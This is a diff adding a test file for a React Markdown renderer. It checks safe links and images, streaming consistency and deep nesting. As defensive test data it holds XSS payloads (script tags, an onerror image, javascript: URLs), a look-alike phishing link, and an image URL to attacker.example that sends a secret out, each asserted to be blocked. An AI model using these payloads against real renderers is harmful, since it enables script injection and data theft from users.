@@ -1,0 +1,105 @@
+import { cleanup, fireEvent, render } from '@testing-library/react';
+import fc from 'fast-check';
+import { afterEach, describe, expect, it } from 'vitest';
+import { Markdown } from './markdown.js';
+import { AllowedImageOriginsContext } from '../media/media-policy.js';
+
+afterEach(cleanup);
+
+describe('Markdown', () => {
+  it('renders common markdown as elements', () => {
+    const { container } = render(
+      <Markdown text={'# Title\n\n### Sub\n\nSome **bold**, *italic*, `code` and [a link](https://example.com).\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'} />,
+    );
+    // Levels are ranked from h3 without gaps: `#` → h3, `###` → h4.
+    expect([...container.querySelectorAll('h3, h4')].map((heading) => `${heading.tagName}:${heading.textContent}`)).toEqual(['H3:Title', 'H4:Sub']);
+    expect(container.querySelector('strong')!.textContent).toBe('bold');
+    expect(container.querySelector('em')!.textContent).toBe('italic');
+    expect(container.querySelector('a')!.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(container.querySelector('a')!.getAttribute('target')).toBe('_blank');
+    expect(container.querySelectorAll('li')).toHaveLength(2);
+    expect(container.querySelector('.acu-code code')!.textContent).toBe('let a = 1;');
+    expect(container.querySelector('.acu-code')!.getAttribute('data-language')).toBe('js');
+    expect([...container.querySelectorAll('th')].map((cell) => cell.textContent!.trim())).toEqual(['a', 'b']);
+    expect([...container.querySelectorAll('td')].map((cell) => cell.textContent!.trim())).toEqual(['1', '2']);
+  });
+
+  it('renders raw HTML as text and drops unsafe URLs', () => {
+    const { container } = render(
+      <Markdown
+        text={
+          '<script>window.pwnedByMarkdown = 1</script> <img src=x onerror="window.pwnedByMarkdown = 1"> <iframe src="https://evil.example"></iframe>\n\n' +
+          '[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [z](data:text/html,hi) ![i](javascript:alert(1)) <a href="javascript:alert(1)">a</a>'
+        }
+      />,
+    );
+    expect(container.querySelectorAll('script, img, iframe, [onerror], [href], [src]')).toHaveLength(0);
+    expect(container.textContent).toContain('<script>window.pwnedByMarkdown = 1</script>');
+    expect(container.textContent).toContain('<iframe src="https://evil.example"></iframe>');
+    expect((window as { pwnedByMarkdown?: number }).pwnedByMarkdown).toBeUndefined();
+  });
+
+  it('renders a half-streamed message sensibly (unclosed emphasis and code fence)', () => {
+    const { container } = render(<Markdown text={'Here is **bold and\n\n```ts\nconst x ='} />);
+    expect(container.querySelector('strong')!.textContent).toBe('bold and');
+    expect(container.querySelector('.acu-code code')!.textContent).toContain('const x =');
+  });
+
+  it('shows where a link goes: its host after its text (punycode for look-alike names); a bare URL shows itself', () => {
+    const { container } = render(<Markdown text={'[your bank](https://bаnk.example/login) and https://plain.example/x done'} />);
+    const [named, bare] = [...container.querySelectorAll('a')];
+    expect(named!.textContent).toMatch(/^your bank \(xn--[a-z0-9-]+\.example\)$/);
+    expect(named!.querySelector('.acu-markdown__host')).not.toBeNull();
+    expect(bare!.textContent).toBe('https://plain.example/x');
+    expect(bare!.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('loads an image from another origin only after a click, unless its origin is allowed; data: and same-origin load', () => {
+    const text = '![secret](https://attacker.example/collect?secret=1) ![ok](https://cdn.example.com/a.png) ![inline](data:image/png;base64,AAAA) ![local](/logo.png)';
+    const blocked = render(<Markdown text={text} />);
+    const sources = () => [...blocked.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
+    expect(sources()).toEqual(['data:image/png;base64,AAAA', '/logo.png']);
+    const buttons = [...blocked.container.querySelectorAll('button')].filter((button) => button.textContent!.startsWith('Load image'));
+    expect(buttons.map((button) => button.textContent)).toEqual(['Load image from attacker.example', 'Load image from cdn.example.com']);
+    expect(blocked.container.textContent).toContain('secret');
+    fireEvent.click(buttons[1]!);
+    expect(sources()).toContain('https://cdn.example.com/a.png');
+    expect(sources()).not.toContain('https://attacker.example/collect?secret=1');
+    cleanup();
+
+    const allowed = render(
+      <AllowedImageOriginsContext.Provider value={['https://cdn.example.com']}>
+        <Markdown text={text} />
+      </AllowedImageOriginsContext.Provider>,
+    );
+    const allowedSources = [...allowed.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
+    expect(allowedSources).toContain('https://cdn.example.com/a.png');
+    expect(allowedSources).not.toContain('https://attacker.example/collect?secret=1');
+    expect(allowed.container.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
+  });
+
+  it('renders 3,000 nested blockquotes and lists without overflowing the stack: the deep text shows as text', () => {
+    const quotes = render(<Markdown text={'>'.repeat(3000) + ' deep text'} />);
+    expect(quotes.container.textContent).toContain('deep text');
+    expect(quotes.container.querySelectorAll('blockquote').length).toBeLessThan(20);
+    const list = Array.from({ length: 3000 }, (_, level) => `${'  '.repeat(level)}- item ${level}`).join('\n');
+    const lists = render(<Markdown text={list} />);
+    expect(lists.container.textContent).toContain('item 2999');
+  });
+
+  it('streamed in random pieces, renders the same DOM as the whole text rendered at once', () => {
+    const snippets = ['# ', '> ', '- ', '1. ', '```ts\n', '```\n', '`', '**', '*', '_', '~~', '[a](https://example.com/x)', '![i](/i.png)', '| a | b |\n|---|---|\n', 'word ', '\n', '\n\n'];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...snippets), { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 8 }), (parts, cuts) => {
+        const text = parts.join('');
+        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
+        const streamed = render(<Markdown text="" />);
+        for (const point of [...points, text.length]) streamed.rerender(<Markdown text={text.slice(0, point)} />);
+        const whole = render(<Markdown text={text} />);
+        expect(streamed.container.innerHTML).toBe(whole.container.innerHTML);
+        cleanup();
+      }),
+      { seed: 1813, numRuns: 60 },
+    );
+  });
+});
